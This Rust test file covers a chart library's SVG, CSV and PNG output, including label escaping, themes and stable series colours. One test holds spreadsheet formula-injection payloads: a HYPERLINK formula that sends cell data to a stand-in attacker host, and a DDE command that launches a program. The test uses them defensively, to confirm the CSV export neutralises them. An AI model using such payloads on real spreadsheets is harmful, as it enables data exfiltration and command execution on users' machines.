//! Charts for known data: the SVG carries the series (one filled area per stacked series,
//! in its colour, named in the legend), the axes (round y ticks in the unit, time ticks in
//! the viewer's local time, the zone) and the labels, escaped; gaps break lines; markers
//! mark; the CSV holds the same numbers; the PNG is a PNG of the requested size.

use botbat_charts::{
    render_svg, svg_to_png, to_csv, Chart, Hue, Series, Style, Theme, Threshold, TimeAxis, Unit,
};

/// 2026-11-20 00:00:00 UTC.
const MIDNIGHT: i64 = 1_795_132_800;

fn volume() -> Chart {
    let hours = 24;
    let contacts: Vec<Option<f64>> = (0..hours).map(|h| Some(10.0 + h as f64)).collect();
    let messages: Vec<Option<f64>> = (0..hours)
        .map(|h| Some(if h < 12 { 5.0 } else { 20.0 }))
        .collect();
    let other: Vec<Option<f64>> = (0..hours).map(|_| Some(2.0)).collect();
    Chart {
        title: "Requests by endpoint".to_string(),
        y_label: "Requests per hour".to_string(),
        unit: Unit::Count,
        axis: TimeAxis::equal(MIDNIGHT, 3_600, hours, chrono_tz::UTC),
        series: vec![
            Series {
                name: "GET /v1/contacts".to_string(),
                values: contacts,
                style: Style::StackedArea,
                hue: Hue::Palette(None),
            },
            Series {
                name: "R&D <bot> POST /v1/messages/send".to_string(),
                values: messages,
                style: Style::StackedArea,
                hue: Hue::Palette(None),
            },
            Series {
                name: "Other (2)".to_string(),
                values: other,
                style: Style::StackedArea,
                hue: Hue::Neutral,
            },
        ],
        thresholds: vec![],
        empty_message: "No requests in this range".to_string(),
    }
}

fn count(haystack: &str, needle: &str) -> usize {
    haystack.matches(needle).count()
}

/// The `fill` colours of the `<polygon>` elements, in drawing order.
fn polygon_fills(svg: &str) -> Vec<String> {
    svg.split("<polygon")
        .skip(1)
        .filter_map(|p| {
            let start = p.find("fill=\"")? + 6;
            Some(p[start..start + 7].to_ascii_lowercase())
        })
        .collect()
}

#[test]
fn a_stacked_volume_chart_carries_its_series_axes_and_labels() {
    let chart = volume();
    let rendered = render_svg(&chart, (800, 360), Theme::Light).expect("rendered");
    let svg = &rendered.svg;

    assert!(
        svg.starts_with(r#"<svg width="800" height="360" viewBox="0 0 800 360""#),
        "crisp at any size: sized and with a viewBox: {}",
        &svg[..80]
    );
    assert!(svg.contains("Requests by endpoint"), "title");
    assert!(svg.contains("Requests per hour"), "y axis label");
    assert!(svg.contains("Time (UTC)"), "x axis label names the zone");
    for name in ["GET /v1/contacts", "Other (2)"] {
        assert_eq!(count(svg, name), 1, "{name} in the legend once");
    }
    assert!(
        svg.contains("R&amp;D &lt;bot&gt; POST /v1/messages/send") && !svg.contains("<bot>"),
        "labels are escaped"
    );
    // The top of the stack is 33 + 20 + 2 = 55; the axis rounds up to 60 with round ticks.
    assert_eq!(rendered.y_max, 60.0);
    for tick in ["\n0\n", "\n20\n", "\n40\n", "\n60\n"] {
        assert!(svg.contains(tick), "y tick {tick:?}");
    }
    // Local midnight is named by its day; the hours between by the time.
    for tick in [
        "\nFri 20\n",
        "\n06:00\n",
        "\n12:00\n",
        "\n18:00\n",
        "\nSat 21\n",
    ] {
        assert!(svg.contains(tick), "time tick {tick:?}");
    }

    // One filled area per stacked series, in the series' colours.
    assert_eq!(rendered.colors.len(), 3);
    assert_eq!(rendered.colors[2], "#a3a9b3", "Other is neutral grey");
    let fills = polygon_fills(svg);
    assert_eq!(fills, rendered.colors, "one area per series, bottom first");

    // The hover layer's geometry: one x per bucket, inside the plot, evenly spaced.
    assert_eq!(rendered.bucket_x.len(), 24);
    let plot = rendered.plot;
    assert!(plot.left > 30.0 && plot.right < 800.0 && plot.top > 40.0 && plot.bottom < 360.0);
    assert!(rendered.bucket_x.windows(2).all(|w| w[1] > w[0]));
    assert!(rendered.bucket_x[0] > plot.left && rendered.bucket_x[23] < plot.right);
    let step = rendered.bucket_x[1] - rendered.bucket_x[0];
    assert!((rendered.bucket_x[23] - rendered.bucket_x[22] - step).abs() < 1e-6);
}

#[test]
fn the_dark_theme_draws_on_the_dark_surface_with_light_text() {
    let light = render_svg(&volume(), (640, 300), Theme::Light).expect("light");
    let dark = render_svg(&volume(), (640, 300), Theme::Dark).expect("dark");
    let lower = |s: &str| s.to_ascii_lowercase();
    assert!(lower(&light.svg).contains("fill=\"#ffffff\""));
    assert!(
        lower(&dark.svg).contains("fill=\"#15181e\""),
        "the console's dark surface"
    );
    assert!(
        lower(&dark.svg).contains("fill=\"#e7e9ed\""),
        "light title text"
    );
    assert_ne!(
        light.colors, dark.colors,
        "series colours are tuned per theme"
    );
    assert_eq!(polygon_fills(&dark.svg), dark.colors);
}

#[test]
fn latency_lines_break_at_gaps_and_limits_and_429s_are_marked() {
    let n = 12;
    let mut p95: Vec<Option<f64>> = (0..n).map(|i| Some(100.0 + 10.0 * i as f64)).collect();
    p95[5] = None;
    let latency = Chart {
        title: "Latency".to_string(),
        y_label: "Milliseconds".to_string(),
        unit: Unit::Milliseconds,
        axis: TimeAxis::equal(MIDNIGHT, 600, n, chrono_tz::Asia::Kolkata),
        series: vec![Series {
            name: "p95".to_string(),
            values: p95,
            style: Style::Line,
            hue: Hue::Warning,
        }],
        thresholds: vec![],
        empty_message: "No requests".to_string(),
    };
    let rendered = render_svg(&latency, (600, 280), Theme::Light).expect("latency");
    let stroke = format!("stroke=\"{}\"", rendered.colors[0].to_ascii_uppercase());
    let lines = rendered
        .svg
        .split("<polyline")
        .skip(1)
        .filter(|p| p.contains(&stroke))
        .count();
    assert_eq!(
        lines,
        1 + 2,
        "the legend's sample, and the p95 line split in two by the gap"
    );
    assert!(rendered.svg.contains("Local time (UTC+05:30)"));
    assert!(rendered.svg.contains(" ms\n"), "y ticks in ms");

    let load = Chart {
        title: "Rate-limit consumption".to_string(),
        y_label: "Requests per minute".to_string(),
        unit: Unit::Count,
        axis: latency.axis,
        series: vec![
            Series {
                name: "Busiest minute".to_string(),
                values: (0..n).map(|i| Some(150.0 + 12.0 * i as f64)).collect(),
                style: Style::Line,
                hue: Hue::Palette(Some(0)),
            },
            Series {
                name: "429 responses".to_string(),
                values: (0..n)
                    .map(|i| Some(if i % 4 == 3 { 7.0 } else { 0.0 }))
                    .collect(),
                style: Style::Markers,
                hue: Hue::Violet,
            },
        ],
        thresholds: vec![Threshold {
            label: "Organisation limit: 300 per minute (Starter)".to_string(),
            value: 300.0,
        }],
        empty_message: "No requests".to_string(),
    };
    let rendered = render_svg(&load, (600, 280), Theme::Light).expect("load");
    assert!(rendered
        .svg
        .contains("Organisation limit: 300 per minute (Starter)"));
    assert!(rendered.y_max >= 300.0, "the limit is on the chart");
    let violet = rendered.colors[1].clone();
    // Three markers on the plot and one in the legend.
    assert_eq!(
        polygon_fills(&rendered.svg)
            .iter()
            .filter(|f| **f == violet)
            .count(),
        3 + 1
    );
}

#[test]
fn an_empty_range_says_so() {
    let mut chart = volume();
    for s in &mut chart.series {
        s.values = vec![Some(0.0); 24];
    }
    let rendered = render_svg(&chart, (500, 260), Theme::Light).expect("empty");
    assert!(rendered.svg.contains("No requests in this range"));
    assert!(!volume_svg_contains_empty_message());
}

fn volume_svg_contains_empty_message() -> bool {
    render_svg(&volume(), (500, 260), Theme::Light)
        .expect("full")
        .svg
        .contains("No requests in this range")
}

#[test]
fn a_series_of_the_wrong_length_is_refused() {
    let mut chart = volume();
    chart.series[0].values.pop();
    let error = render_svg(&chart, (500, 260), Theme::Light).expect_err("shape");
    assert!(
        error.to_string().contains("23 values for 24 buckets"),
        "{error}"
    );
}

#[test]
fn the_csv_holds_the_numbers_behind_the_chart() {
    let mut chart = volume();
    chart.axis.zone = chrono_tz::Europe::Berlin;
    chart.series[0].values[1] = None;
    chart.series[2].values[0] = Some(2.5);
    let csv = to_csv(&chart).expect("csv");
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 25);
    assert_eq!(
        lines[0],
        r#""bucket_start","GET /v1/contacts","R&D <bot> POST /v1/messages/send","Other (2)""#
    );
    assert_eq!(lines[1], r#""2026-11-20T01:00:00+01:00",10,5,2.500"#);
    assert_eq!(lines[2], r#""2026-11-20T02:00:00+01:00","",5,2"#);
    assert_eq!(lines[24], r#""2026-11-21T00:00:00+01:00",33,20,2"#);
}

#[test]
fn csv_text_cells_cannot_become_spreadsheet_formulas() {
    let mut chart = volume();
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTAB",
    ];
    chart.series = names
        .iter()
        .map(|name| Series {
            name: name.to_string(),
            values: vec![Some(-3.5); 24],
            style: Style::Line,
            hue: Hue::Palette(None),
        })
        .collect();
    let csv = to_csv(&chart).expect("csv");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    for (cell, name) in header[1..].iter().zip(names) {
        assert_eq!(cell, &format!("'{name}"), "a leading quote makes it text");
    }
    let header_line = csv.lines().next().expect("header line");
    assert!(
        header_line.contains(r#","'=HYPERLINK(""http://evil.example/?""&A1,""x"")","#),
        "quoted, inner quotes doubled: {header_line}"
    );
    let first = csv.lines().nth(1).expect("first row");
    assert!(
        first.ends_with(",-3.500,-3.500,-3.500,-3.500,-3.500"),
        "numbers, negative ones too, stay numbers: {first}"
    );
}

#[test]
fn the_png_is_the_chart_at_the_requested_scale() {
    let rendered = render_svg(&volume(), (640, 300), Theme::Dark).expect("svg");
    let png = svg_to_png(&rendered.svg, 2.0).expect("png");
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n");
    let width = u32::from_be_bytes(png[16..20].try_into().expect("width"));
    let height = u32::from_be_bytes(png[20..24].try_into().expect("height"));
    assert_eq!((width, height), (1_280, 600));
    assert!(
        png.len() > 10_000,
        "a real picture, not a blank: {} bytes",
        png.len()
    );
}

/// One stacked series per name, each with the same small count in every bucket.
fn by_name(names: &[&str]) -> Chart {
    let mut chart = volume();
    chart.series = names
        .iter()
        .map(|name| Series {
            name: (*name).to_string(),
            values: vec![Some(1.0); 24],
            style: Style::StackedArea,
            hue: Hue::Palette(None),
        })
        .collect();
    chart
}

fn colour_of(chart: &Chart, name: &str) -> String {
    let rendered = render_svg(chart, (640, 300), Theme::Light).expect("drawn");
    let i = chart
        .series
        .iter()
        .position(|s| s.name == name)
        .expect("series");
    rendered.colors[i].clone()
}

#[test]
fn a_series_keeps_its_colour_whatever_is_drawn_beside_it() {
    // Names whose preferred hues differ, so no series has to give way to another.
    let key = "CRM sync";
    let others = ["Analytics", "Support bot", "GET /v1/contacts", "Marketing"];
    let preferred: std::collections::HashSet<usize> = std::iter::once(key)
        .chain(others)
        .map(botbat_charts::preferred_slot)
        .collect();
    assert_eq!(
        preferred.len(),
        5,
        "the names were chosen to prefer different hues"
    );

    // The same key in three views: alone, first of two, last of five (another order).
    let alone = colour_of(&by_name(&[key]), key);
    let first = colour_of(&by_name(&[key, "Analytics"]), key);
    let mut crowd = others.to_vec();
    crowd.push(key);
    let last = colour_of(&by_name(&crowd), key);
    assert_eq!(alone, first, "adding a series after it");
    assert_eq!(alone, last, "other series before it");
    for name in others {
        assert_eq!(
            colour_of(&by_name(&[name]), name),
            colour_of(&by_name(&crowd), name)
        );
    }

    // The colour comes from the name, not the position: series in the first place get
    // different colours when their names differ.
    let firsts: std::collections::HashSet<String> = others
        .iter()
        .map(|name| colour_of(&by_name(&[name]), name))
        .collect();
    assert_eq!(firsts.len(), others.len(), "{firsts:?}");
}

#[test]
fn two_series_that_prefer_one_hue_are_told_apart_the_same_way_in_any_order() {
    let (a, b) = ("Billing export", "CRM sync");
    assert_eq!(
        botbat_charts::preferred_slot(a),
        botbat_charts::preferred_slot(b),
        "the names were chosen to prefer the same hue"
    );
    let one = by_name(&[a, b]);
    let other = by_name(&[b, a]);
    assert_ne!(colour_of(&one, a), colour_of(&one, b));
    assert_eq!(colour_of(&one, a), colour_of(&other, a));
    assert_eq!(colour_of(&one, b), colour_of(&other, b));
    // The first by name keeps its own hue.
    assert_eq!(colour_of(&one, a), colour_of(&by_name(&[a]), a));
}

#[test]
fn series_of_one_chart_never_share_a_colour_while_hues_last() {
    let names = [
        "GET /v1/contacts",
        "POST /v1/contacts",
        "GET /v1/me",
        "POST /v1/messages/send",
        "GET /v1/webhooks",
        "GET /v1/usage/summary",
        "GET /v1/rate_limits",
        "GET /v1/api_keys",
    ];
    let chart = by_name(&names);
    let rendered = render_svg(&chart, (640, 300), Theme::Light).expect("drawn");
    let distinct: std::collections::HashSet<&String> = rendered.colors.iter().collect();
    assert_eq!(distinct.len(), names.len(), "{:?}", rendered.colors);

    // The order the series come in does not change who gets which colour.
    let mut reversed = names;
    reversed.reverse();
    for name in names {
        assert_eq!(
            colour_of(&chart, name),
            colour_of(&by_name(&reversed), name)
        );
    }
}

#[test]
fn the_preferred_place_is_the_same_on_every_run() {
    // FNV-1a is fixed by its definition, so these never move between builds or machines.
    assert_eq!(
        botbat_charts::preferred_slot(""),
        0xcbf2_9ce4_8422_2325_u64 as usize % 8
    );
    let slots = botbat_charts::assign([
        ("b", Hue::Palette(None)),
        ("a", Hue::Palette(Some(3))),
        ("Other (2)", Hue::Neutral),
    ]);
    assert_eq!(slots[1], 3, "a fixed place is kept");
    assert_ne!(slots[0], 3, "a derived place avoids a fixed one");
    assert_eq!(slots[0], {
        let preferred = botbat_charts::preferred_slot("b");
        if preferred == 3 {
            4
        } else {
            preferred
        }
    });
}
